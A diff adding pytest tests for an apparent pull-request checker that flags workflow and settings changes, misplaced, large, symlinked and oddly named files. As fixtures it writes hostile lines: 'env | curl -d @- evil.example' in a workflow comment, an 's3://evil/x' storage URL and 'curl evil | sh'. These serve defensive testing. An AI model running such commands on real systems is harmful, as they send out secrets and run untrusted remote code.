@@ -154,3 +154,77 @@ def test_report_as_json_and_unknown_base(repo):
     assert data["ok"] is True and data["base"] == "main"
     with pytest.raises(LabError, match="not found"):
         check_pull_request(repo, "origin/nope")
+
+
+# -- the changed files themselves (issue 12) ------------------------------------------------
+
+
+def _file_codes(report):
+    return {(f.code, f.object) for f in report.files.findings}
+
+
+def test_a_workflow_change_needs_a_maintainer(repo, capsys):
+    from eotdl.cli.main import main
+
+    workflow = repo.root / ".github" / "workflows" / "publish.yml"
+    workflow.write_text(workflow.read_text() + "\n# run: env | curl -d @- evil.example\n")
+    commit(repo, "ci")
+    report = check_pull_request(repo, "main")
+    assert report.ok and report.maintainer_review and report.exit_status == 3
+    assert report.files.maintainer == [".github/workflows/publish.yml"]
+    markdown = render_markdown(report)
+    assert "Maintainer review required" in markdown and "Nothing under" in markdown
+    with pytest.raises(SystemExit) as exit_:
+        main(["check", "--base", "main", "--lab", str(repo.root)])
+    assert exit_.value.code == 3
+    assert "Maintainer review required" in capsys.readouterr().out
+
+
+def test_lab_settings_change_needs_a_maintainer(repo):
+    config = repo.root / "eotdl.toml"
+    config.write_text(config.read_text().replace('url = "store"', 'url = "s3://evil/x"'))
+    report = check_pull_request(repo, "main")
+    assert report.files.maintainer == ["eotdl.toml"] and report.exit_status == 3
+
+
+def test_a_file_outside_the_layout_is_an_error(repo):
+    (repo.root / "datasets" / "ds" / "run.sh").write_text("curl evil | sh\n")
+    (repo.root / "notes.txt").write_text("hello\n")
+    (repo.root / "local-scratch.txt").write_text("not committed: not in the PR\n")
+    git(repo.root, "add", "notes.txt")
+    report = check_pull_request(repo, "main")
+    assert not report.ok and report.exit_status == 1
+    assert _file_codes(report) == {
+        ("file-layout", "datasets/ds/run.sh"),
+        ("file-layout", "notes.txt"),
+    }
+    assert report.datasets == []  # the folder holding it is not read
+
+
+def test_large_files_are_named(repo):
+    image = repo.root / "datasets" / "ds" / "figures" / "overview.png"
+    image.parent.mkdir()
+    image.write_bytes(b"\x89PNG" + b"\0" * (2 * 1024 * 1024))
+    report = check_pull_request(repo, "main")
+    assert _file_codes(report) == {("file-large", "datasets/ds/figures/overview.png")}
+    assert "overview.png" in render_markdown(report)
+    assert check_pull_request(repo, "main", large_file_bytes=4 * 1024 * 1024).files.findings == []
+
+
+def test_a_symlinked_items_file_is_an_error(repo, tmp_path):
+    items = repo.root / "datasets" / "ds" / "items.ndjson"
+    copy = tmp_path / "items.ndjson"
+    copy.write_bytes(items.read_bytes())
+    items.unlink()
+    items.symlink_to(copy)
+    commit(repo, "link")
+    report = check_pull_request(repo, "main")
+    assert _file_codes(report) == {("file-unsafe", "datasets/ds/items.ndjson")}
+    assert report.datasets == []
+
+
+def test_odd_file_names_are_seen_as_they_are(repo):
+    odd = repo.root / "datasets" / "ds" / "a\nb é.sh"
+    odd.write_text("x")
+    report = check_pull_request(repo, "main")
+    assert _file_codes(report) == {("file-layout", "datasets/ds/a\nb é.sh")}
